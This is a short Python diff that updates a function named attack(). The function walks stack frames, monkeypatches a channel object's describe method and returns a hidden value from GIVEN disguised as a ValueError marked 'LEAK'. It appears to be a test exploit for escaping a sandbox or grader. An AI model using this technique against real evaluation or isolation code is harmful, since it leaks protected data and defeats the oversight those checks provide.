@@ -6,14 +6,14 @@ def attack():
     frame = sys._getframe()
     while frame is not None:
         channel = frame.f_locals.get("self")
-        if hasattr(channel, "_describe"):
+        if hasattr(channel, "describe"):
             def forged(self, error):
                 import numpy as np
 
                 digits = int(abs(np.asarray(GIVEN[1][-1], float).ravel()[0]) * 1e12)
                 return [["ValueError"], 0, digits, "LEAK"]
 
-            type(channel)._describe = forged
+            type(channel).describe = forged
         frame = frame.f_back
 
 
